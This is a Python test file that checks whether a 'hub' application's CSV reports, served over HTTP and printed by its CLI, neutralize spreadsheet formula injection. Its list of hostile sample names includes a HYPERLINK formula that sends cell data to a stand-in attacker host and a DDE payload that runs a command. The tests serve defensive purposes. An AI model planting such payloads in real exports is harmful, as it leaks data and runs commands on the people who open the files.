"""CSV written for people never carries a live formula: reports over HTTP and `hub report`."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import httpx
import pytest
from sqlmodel.ext.asyncio.session import AsyncSession
from typer.testing import CliRunner

from hub.cli import app
from hub.core.db import create_engine, create_session_factory
from hub.core.spreadsheet import FORMULA_TRIGGERS, csv_for_people, neutralize_cell
from providers.models import Organization, Service
from tests.builders import make_person

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Food Bank", "-3", "+1.5", "-0.25e3", "", "'quoted", "a=b"])
def test_plain_text_and_numbers_stay_as_they_are(value: str) -> None:
    assert neutralize_cell(value) == value


def test_csv_for_people_neutralizes_headers_and_cells_and_reads_back() -> None:
    text = csv_for_people(["=cmd", "n"], [[HOSTILE_NAMES[0], "-4"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=cmd", "n"], ["'" + HOSTILE_NAMES[0], "-4"]]


def _assert_no_live_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert (
                not cell.startswith(FORMULA_TRIGGERS)
                or cell.lstrip("+-").replace(".", "").isdigit()
            ), cell
    return rows


async def _hostile_directory(session: AsyncSession) -> dict[str, str]:
    for name in HOSTILE_NAMES:
        org = Organization(name=name, description="x")
        session.add(org)
        await session.flush()
        session.add(Service(organization_id=org.id, name=name))
    admin = await make_person(session, "root@hub.example", is_hub_admin=True)
    await session.commit()
    return admin.headers


async def test_reports_over_http_neutralize_hostile_names(
    session: AsyncSession, client: httpx.AsyncClient
) -> None:
    headers = await _hostile_directory(session)
    params = {"from": "2026-01-01", "to": "2027-01-01"}
    response = await client.get("/reports/health.csv", params=params, headers=headers)
    assert response.status_code == 200, response.text
    rows = _assert_no_live_formula(response.text)
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE_NAMES} <= names


async def _seed(database_url: str) -> None:
    engine = create_engine(database_url)
    try:
        async with create_session_factory(engine)() as session:
            await _hostile_directory(session)
    finally:
        await engine.dispose()


def test_hub_report_csv_neutralizes_hostile_names(database_url: str, tmp_path: Path) -> None:
    asyncio.run(_seed(database_url))
    env = {
        "HUB_DATABASE_URL": database_url,
        "HUB_DATA_DIR": str(tmp_path),
        "HUB_SECRET_KEY": "test-secret-key-0123456789",
    }
    args = ["report", "health", "--from", "2026-01-01", "--to", "2027-01-01", "--format", "csv"]
    result = CliRunner().invoke(app, args, env=env)
    assert result.exit_code == 0, result.output
    rows = _assert_no_live_formula(result.stdout)
    assert {"'" + name for name in HOSTILE_NAMES} <= {row[0] for row in rows[1:]}
